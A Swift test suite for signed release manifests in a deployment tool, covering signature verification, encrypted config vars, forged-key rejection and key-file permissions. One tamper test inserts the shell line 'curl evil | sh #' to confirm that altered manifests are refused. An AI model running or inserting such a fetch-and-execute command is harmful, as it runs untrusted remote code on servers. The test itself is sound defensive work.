import Foundation
import SlipwaySpool
import SlipwayTestSupport
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Signed releases (docs/spool.md, "Signed releases"): the door's signature over the manifest's bytes, config vars
/// sealed to the runners, and the release keys' files.
@Suite struct SignedReleaseTests {
    /// A door key of its own, in a scratch root.
    static func doorKey(_ scratch: ScratchDirectory, _ name: String) throws -> DoorReleaseKey {
        try DoorReleaseKey.loadOrCreate(RootLayout(try scratch.makeDirectory(name)))
    }

    static func release(_ fixture: SpoolFixture) throws -> ReleaseManifest {
        var manifest = try fixture.manifest(slugPath: try fixture.slug())
        manifest.configVars = ["DATABASE_URL": "postgres://u:hunter2-secret@db/x", "GREETING": "hello"]
        return manifest
    }

    /// The envelope as a dictionary, and the manifest bytes it carries.
    static func envelope(_ data: Data) throws -> (object: [String: Any], manifest: Data) {
        let object = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        let text = try #require(object["manifest"] as? String)
        let manifest = try #require(Data(base64Encoded: text))
        return (object, manifest)
    }

    @Test func aSignedReleaseOpensWithTheDoorsKeyAndHoldsNoConfigVarInClear() throws {
        let fixture = try SpoolFixture("signed")
        let manifest = try Self.release(fixture)
        let signed = try fixture.sign(manifest)
        #expect(try SignedRelease.open(signed, with: fixture.runnerKey) == manifest, "config vars come back")

        let (object, inner) = try Self.envelope(signed)
        #expect(object["schema_version"] as? Int == 2)
        for bytes in [signed, inner] {
            for secret in ["hunter2-secret", "hello", "DATABASE_URL"] {
                #expect(bytes.range(of: Data(secret.utf8)) == nil, "\(secret) is in clear")
            }
        }
        let peeked = try SignedRelease.peek(signed)
        #expect(peeked.app == "myapp" && peeked.version == 1 && peeked.configVars.isEmpty)
        #expect(peeked.sealedConfigVars != nil && peeked.schemaVersion == 2)
        // Each release seals with a fresh ephemeral key: the same config never gives the same bytes.
        #expect(try SignedRelease.peek(try fixture.sign(manifest)).sealedConfigVars != peeked.sealedConfigVars)
    }

    @Test func aPlainManifestIsRefusedAsUnsigned() throws {
        let fixture = try SpoolFixture("signed-plain")
        let plain = try Self.release(fixture).encoded()
        #expect(throws: ReleaseRefusal.unsigned) { try SignedRelease.open(plain, with: fixture.runnerKey) }
        #expect(throws: ReleaseRefusal.self) { try SignedRelease.open(Data("{}".utf8), with: fixture.runnerKey) }
        #expect(ReleaseRefusal.unsigned.description.contains("not signed by the door"))
    }

    @Test func aReleaseSignedByAnotherKeyIsRefused() throws {
        let fixture = try SpoolFixture("signed-other")
        let mallory = try Self.doorKey(fixture.scratch, "mallory")
        let forged = try SignedRelease.seal(try Self.release(fixture), with: mallory)
        #expect(throws: ReleaseRefusal.otherKey) { try SignedRelease.open(forged, with: fixture.runnerKey) }
        #expect(
            ReleaseRefusal.otherKey.description
                == "its signature is not the door's (was it written into the spool by hand?)")

        // Claiming to be the door's key does not help: the signature is checked with the runner's own copy.
        var (object, _) = try Self.envelope(forged)
        object["signed_by"] = try Self.envelope(try fixture.sign(try Self.release(fixture))).object["signed_by"]
        let lying = try JSONSerialization.data(withJSONObject: object)
        #expect(throws: ReleaseRefusal.badSignature) { try SignedRelease.open(lying, with: fixture.runnerKey) }
    }

    @Test func aManifestChangedAfterSigningIsRefused() throws {
        let fixture = try SpoolFixture("signed-changed")
        var (object, inner) = try Self.envelope(try fixture.sign(try Self.release(fixture)))
        let text = String(decoding: inner, as: UTF8.self)
        #expect(text.contains("python -m http.server"))
        let changed = text.replacingOccurrences(of: "python -m http.server", with: "curl evil | sh #")
        object["manifest"] = Data(changed.utf8).base64EncodedString()
        let data = try JSONSerialization.data(withJSONObject: object)
        #expect(throws: ReleaseRefusal.badSignature) { try SignedRelease.open(data, with: fixture.runnerKey) }
    }

    @Test func configVarsSealedToAnotherRunnerKeyDoNotOpen() throws {
        let fixture = try SpoolFixture("signed-sealed")
        let other = try Self.doorKey(fixture.scratch, "other")
        let stranger = RunnerReleaseKey(door: fixture.runnerKey.door, sealing: other.runnerKey.sealing)
        let signed = try fixture.sign(try Self.release(fixture))
        #expect(throws: ReleaseRefusal.sealedToAnotherKey) { try SignedRelease.open(signed, with: stranger) }
    }

    @Test func theSpoolRefusesAnEntryNotSignedByTheRunnersDoor() throws {
        let fixture = try SpoolFixture("signed-spool")
        let entry = try fixture.spool.claim(try fixture.publish())
        let other = try Self.doorKey(fixture.scratch, "other").runnerKey
        let error = #expect(throws: SpoolError.self) { try fixture.spool.read(entryAt: entry, key: other) }
        #expect(error?.code == .refusedSignature)
        #expect(error?.description == ReleaseRefusal.otherKey.description)
        #expect(try fixture.spool.read(entryAt: entry, key: fixture.runnerKey).0.configVars == ["GREETING": "hello"])
    }

    @Test func theKeyIsMadeOnceMode0600AndTheRunnersFileCarriesIt() throws {
        let scratch = try ScratchDirectory("release-key")
        let layout = RootLayout(try scratch.makeDirectory("root"))
        #expect(try DoorReleaseKey.load(layout) == nil)

        // Made by several processes' worth of threads at once: one key wins, and all of them get it.
        let keys = Collected()
        DispatchQueue.concurrentPerform(iterations: 8) { _ in
            if let key = try? DoorReleaseKey.loadOrCreate(layout).runnerKey.encoded() { keys.append(key) }
        }
        let made = keys.items
        #expect(made.count == 8 && Set(made).count == 1)
        var info = stat()
        #expect(stat(layout.releaseKey, &info) == 0 && info.st_mode & 0o777 == 0o600)
        #expect(try FileManager.default.contentsOfDirectory(atPath: layout.path) == ["release-key.json"])

        // What `receive-pack release-key` prints, read back on another machine, is the same key.
        let file = try scratch.write("elsewhere/release-key.json", String(decoding: made[0], as: UTF8.self))
        let loaded = try RunnerReleaseKey.load(file: file, root: RootLayout(scratch.url("elsewhere")))
        #expect(try loaded.encoded() == made[0])
        #expect(!String(decoding: made[0], as: UTF8.self).contains("signing_ed25519"), "no signing key leaves")
        let fromDoorFile = try RunnerReleaseKey.load(file: layout.releaseKey, root: layout)
        #expect(try fromDoorFile.encoded() == made[0])
    }

    @Test func aRunnerWithoutAKeyIsToldWhatToDo() throws {
        let scratch = try ScratchDirectory("release-key-missing")
        let layout = RootLayout(try scratch.makeDirectory("root"))
        let none = #expect(throws: ReleaseKeyError.self) { try RunnerReleaseKey.load(file: nil, root: layout) }
        #expect(none?.description.contains("receive-pack init") == true)
        #expect(none?.description.contains("--release-key") == true)
        let damaged = try scratch.write(
            "bad.json", "{\"version\":1,\"door_ed25519\":\"AAAA\",\"sealing_x25519\":\"x\"}")
        let bad = #expect(throws: ReleaseKeyError.self) { try RunnerReleaseKey.load(file: damaged, root: layout) }
        #expect(bad?.description.contains("damaged key") == true)
    }
}

/// What the threads of a test gather.
private final class Collected: @unchecked Sendable {
    private let lock = NSLock()
    private var gathered: [Data] = []

    func append(_ item: Data) { lock.withLock { gathered.append(item) } }
    var items: [Data] { lock.withLock { gathered } }
}
